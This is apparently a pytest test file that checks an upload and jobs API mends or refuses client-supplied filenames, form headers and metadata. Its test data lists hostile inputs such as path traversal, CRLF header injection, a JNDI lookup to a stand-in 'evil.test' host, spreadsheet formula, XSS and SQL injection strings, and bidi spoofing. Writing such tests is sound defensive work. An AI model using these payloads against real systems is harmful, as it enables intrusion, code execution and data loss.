"""What clients call things is data: mended or refused, never obeyed."""

import re
from typing import Any

import httpx
import pytest

from tests.http.service import JPEG, Service

AS_JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "multipart/form-data; boundary=b"}
#: Everywhere what a file is called, and what is kept of it.
NAMES = [
    ("receipt.jpg", "receipt.jpg"),
    ("../../etc/passwd", "passwd"),
    ("C:\\x\\y.jpg", "y.jpg"),
    ("/", None),
    ("..", None),
    ("   ", None),
    (".htaccess", "htaccess"),
    ("CON", "_CON"),
    ("%0d%0aX-Evil: 1.jpg", "%0d%0aX-Evil: 1.jpg"),
    ("a;b=';c.jpg", "a;b=';c.jpg"),
    ("${jndi:ldap:x}.jpg", "${jndi:ldap:x}.jpg"),
    ("<script>alert(1)<script>.jpg", "<script>alert(1)<script>.jpg"),
    ("über 📷 👩‍👩‍👧.jpg", "über 📷 👩‍👩‍👧.jpg"),
    ("u\u0308ber.jpg", "über.jpg"),
    ("photo\u202egpj.exe", "photogpj.exe"),
    ("a\u2028b\u200b\ufeff.jpg", "ab.jpg"),
    ("photo.jpg" + " " * 100 + ".exe", "photo.jpg .exe"),
    ("📷" * 200 + ".jpeg", "📷" * 62 + ".jpeg"),
]
#: Not in JSON, whose author can mend them.
RAW_NAMES = [
    ("a\x1b[2Jb\x07.jpg", "a[2Jb.jpg"),
    ("a\x7f\x85\x9bb.jpg", "ab.jpg"),
    ("a%0D%0AX-Evil: 1.jpg", "aX-Evil: 1.jpg"),
    ("a\tb\n.jpg", "ab.jpg"),
    ("x" * 4000 + ".jpg", "x" * 251 + ".jpg"),
    ("", None),
]


async def _kept(api: httpx.AsyncClient, upload_id: str) -> str | None:
    upload = (await api.get(f"/v1/uploads/{upload_id}")).raise_for_status().json()
    name: str | None = upload["filename"]
    return name


def _form(disposition: bytes) -> bytes:
    head = b'--b\r\nContent-Disposition: form-data; name="file"' + disposition
    return head + b"\r\nContent-Type: image/jpeg\r\n\r\n" + JPEG + b"\r\n--b--\r\n"


async def _kept_of_form(api: httpx.AsyncClient, disposition: bytes) -> str | None:
    body = _form(disposition)
    answer = await api.post("/v1/read?wait=10", content=body, headers=FORM)
    assert answer.status_code == 200, answer.text
    job = (await api.get(f"/v1/jobs/{answer.json()['job_id']}")).json()
    return await _kept(api, job["source"]["upload_id"])


@pytest.mark.parametrize(("sent", "kept"), NAMES)
async def test_the_name_in_a_grant_is_mended_and_never_in_a_key(
    api: httpx.AsyncClient, tenant: str, sent: str, kept: str | None
) -> None:
    promise = {"content_type": "image/jpeg", "filename": sent}
    answer = await api.post("/v1/uploads", json=promise)
    assert answer.status_code == 201
    grant = answer.json()
    assert grant["fields"]["key"] == f"{tenant}/{grant['id']}"
    assert re.fullmatch("upl_[0-9a-z]{26}", grant["id"])
    assert await _kept(api, grant["id"]) == kept


@pytest.mark.parametrize(("sent", "kept"), [*NAMES, *RAW_NAMES])
async def test_no_name_in_a_form_keeps_its_photo_from_being_read(
    api: httpx.AsyncClient, sent: str, kept: str | None
) -> None:
    assert await _kept_of_form(api, f'; filename="{sent}"'.encode()) == kept


@pytest.mark.parametrize(
    ("options", "kept"),
    [
        (b"", None),
        (b"; filename=plain.jpg", "plain.jpg"),
        (b'; filename="a\\"b.jpg"', 'a"b.jpg'),
        (b'; filename="a%22; name=%22evil.jpg"', 'a"; name="evil.jpg'),
        # RFC 7578 forbids the extended form here; it is not looked at.
        (b"; filename*=UTF-8''%e2%82%ac.jpg", None),
        (b"; filename=\"a.jpg\"; filename*=UTF-8''..%2f%0d%0aevil.exe", "a.jpg"),
        (b"; filename*=nonsense; filename=", None),
    ],
)
async def test_however_a_form_says_it_the_name_is_read(
    api: httpx.AsyncClient, options: bytes, kept: str | None
) -> None:
    assert await _kept_of_form(api, options) == kept


@pytest.mark.parametrize(
    "name",
    [
        b"\xc0\xae\xc0\xae\xc0\xaf.jpg",
        b"\xe0\x80\xaf.jpg",
        b"\xed\xa0\x80.jpg",
        b"\xff.jpg",
        b"x" * 10_000 + b".jpg",
        b"a\r\nX Evil: 1\r\n.jpg",
    ],
)
async def test_a_form_whose_head_cannot_be_read_is_malformed(
    api: httpx.AsyncClient, name: bytes
) -> None:
    body = _form(b'; filename="' + name + b'"')
    answer = await api.post("/v1/read", content=body, headers=FORM)
    assert answer.status_code == 400
    assert answer.json()["code"] == "validation_failed"
    assert answer.json()["detail"].startswith("The form is malformed: ")


@pytest.mark.parametrize(
    ("name", "status"),
    [
        ('""', 422),
        ('"a\\r\\nSet-Cookie: x"', 422),
        ('"a\\u0000.jpg"', 422),
        ('"\\u001b]0;owned\\u0007.jpg"', 422),
        ('"a\\u009b2J.jpg"', 422),
        ('"' + "x" * 10_000 + '"', 422),
        ("5", 422),
        ("{}", 422),
        ('["a.jpg"]', 422),
        ('"\\ud800.jpg"', 400),
        ('"\\udfff\\ud83d.jpg"', 400),
        ('"a\x00.jpg"', 400),
    ],
)
async def test_a_name_in_json_that_no_file_has_is_refused(
    api: httpx.AsyncClient, name: str, status: int
) -> None:
    body = f'{{"content_type": "image/jpeg", "filename": {name}}}'
    answer = await api.post("/v1/uploads", content=body, headers=AS_JSON)
    assert answer.status_code == status
    [fault] = answer.json()["errors"]
    assert fault["pointer"] == ("/filename" if status == 422 else "")


@pytest.mark.parametrize(
    "metadata",
    [
        {},
        {"__proto__": "x", "constructor": "y", "toString": "z"},
        {"a.b": "dotted", "a.b.": "…", ".": "", "-_-": " "},
        {"jndi": "${jndi:ldap://evil.test/a}", "sheet": "=cmd|' /C calc'!A0"},
        {"html": "<img src=x onerror=alert(1)>", "sql": "'; DROP TABLE jobs; --"},
        {"path": "../../etc/passwd", "url": "%0d%0aSet-Cookie: x", "q": 'a"b\\c;d'},
        {"हिन्दी".encode().hex(): "क्‍ष नामه\u200cها 👩‍👩‍👧 ❤️"},
        {str(n) * 64: "📷" * 500 for n in range(10)},
    ],
)
async def test_metadata_comes_back_as_it_was_sent_and_finds_its_job(
    service: Service, api: httpx.AsyncClient, metadata: dict[str, str]
) -> None:
    other = await service.job(api)
    job = await service.job(api, metadata=metadata)
    assert job["metadata"] == metadata
    for key, value in metadata.items():
        found = await api.get("/v1/jobs", params={f"metadata.{key}": value})
        assert [each["id"] for each in found.json()["items"]] == [job["id"]]
    everything = (await api.get("/v1/jobs")).json()["items"]
    assert [each["id"] for each in everything] == [job["id"], other["id"]]


async def _refused(
    api: httpx.AsyncClient, metadata: str, status: int = 422
) -> dict[str, Any]:
    source = f'{{"type": "upload", "upload_id": "upl_{"0" * 26}"}}'
    body = f'{{"source": {source}, "metadata": {metadata}}}'
    answer = await api.post("/v1/jobs", content=body, headers=AS_JSON)
    assert answer.status_code == status
    problem: dict[str, Any] = answer.json()
    assert problem["code"] == "validation_failed"
    [fault] = problem["errors"]
    assert fault["detail"] == problem["detail"]
    assert "\x1b" not in problem["detail"]
    assert "\u202e" not in problem["detail"]
    assert len(answer.content) < 2000
    found: dict[str, Any] = fault
    return found


@pytest.mark.parametrize(
    "value",
    [
        *('"\\u001b[2J"', '"a\\nforged"', '"a\\r\\nSet-Cookie: x"', '"\\u0000"'),
        *('"\\u007f"', '"\\u0085"', '"\\u009b"', '"\\u2028"', '"\\u2029"'),
        *('"\\u202egpj.exe"', '"\\u2066x\\u2069"', '"\\u200f"', '"\\u061c"'),
        *('"a\\u200bb"', '"\\ufeff"', '"\\u00ad"', '"\\udb40\\udc41"'),
        *("5", "5e999", "true", "null", "[]", '["x"]', "{}", '{"a": "b"}'),
        '"' + "x" * 501 + '"',
        '{"a":' * 200 + "1" + "}" * 200,
    ],
)
async def test_a_value_that_does_not_fit_is_named_by_its_key(
    api: httpx.AsyncClient, value: str
) -> None:
    fault = await _refused(api, f'{{"fine": "ok", "bad.key": {value}, "z": ""}}')
    assert fault["pointer"] == "/metadata/bad.key"
    assert fault["detail"].startswith("metadata.bad.key: ")


@pytest.mark.parametrize(
    ("key", "pointer"),
    [
        ("", ""),
        ("a b", "a b"),
        ("a/b~", "a~1b~0"),
        ("a\\n", "a\n"),
        ("\\u001b[2J", "\x1b[2J"),
        ("\\u202ea", "\u202ea"),
        ("ключ", "ключ"),
        ("a[0]", "a[0]"),
        ("...", None),
        ("`$.metadata[...]`", "`$.metadata[...]`"),
        ("x" * 65, "x" * 65),
        ("x" * 10_000, "x" * 100),
    ],
)
async def test_a_key_that_does_not_fit_is_named(
    api: httpx.AsyncClient, key: str, pointer: str | None
) -> None:
    value, pointer = ('"ok"', pointer) if pointer is not None else ("5", key)
    fault = await _refused(api, f'{{"fine": "ok", "{key}": {value}, "z": ""}}')
    assert fault["pointer"] == f"/metadata/{pointer}"


@pytest.mark.parametrize(
    ("metadata", "status"),
    [
        ("null", 422),
        ("[]", 422),
        ('"a"', 422),
        ("5", 422),
        ("{" + ", ".join(f'"{n}": ""' for n in range(21)) + "}", 422),
        ('{"a": "\\ud800"}', 400),
        ('{"\\udfff": "a"}', 400),
        ('{"a": "\x00"}', 400),
    ],
)
async def test_what_is_no_metadata_is_refused_whole(
    api: httpx.AsyncClient, metadata: str, status: int
) -> None:
    fault = await _refused(api, metadata, status)
    assert fault["pointer"] == ("/metadata" if status == 422 else "")


async def test_of_two_values_for_one_key_the_map_is_named(
    api: httpx.AsyncClient,
) -> None:
    fault = await _refused(api, '{"a": 5, "a": "ok"}')
    assert fault["pointer"] == "/metadata"


async def test_what_was_sent_is_shown_again_without_what_is_hidden(
    api: httpx.AsyncClient,
) -> None:
    hostile = "\x1b[2J\u202e\n"
    kind = {"source": {"type": hostile}}
    field = {"source": {"type": "url", "url": "https://a.test", hostile: 1}}
    for body in (kind, field):
        detail = (await api.post("/v1/jobs", json=body)).json()["detail"]
        assert detail.isprintable()
        assert r"\x1b[2J\u202e\n" in detail


async def test_in_a_huge_map_no_entry_is_looked_for(api: httpx.AsyncClient) -> None:
    entries = ", ".join(f'"{n}": ""' for n in range(10_000))
    fault = await _refused(api, f'{{{entries}, "a": 5}}')
    assert fault["pointer"] == "/metadata"


@pytest.mark.parametrize("depth", [500, 50_000])
@pytest.mark.parametrize(
    "body",
    [
        '{{"source": {{"type": "upload", "x": {}}}}}',
        '{{"source": {{"x": {}, "type": "upload"}}}}',
        '{{"source": {{"type": {}}}}}',
        '{{"metadata": {{"a": {}}}}}',
        '{{"x": {}}}',
        "{}",
    ],
)
async def test_json_however_deep_is_refused(
    api: httpx.AsyncClient, body: str, depth: int
) -> None:
    deep = "[" * depth + "]" * depth
    answer = await api.post("/v1/jobs", content=body.format(deep), headers=AS_JSON)
    assert answer.status_code in {400, 422}
    assert answer.json()["code"] == "validation_failed"
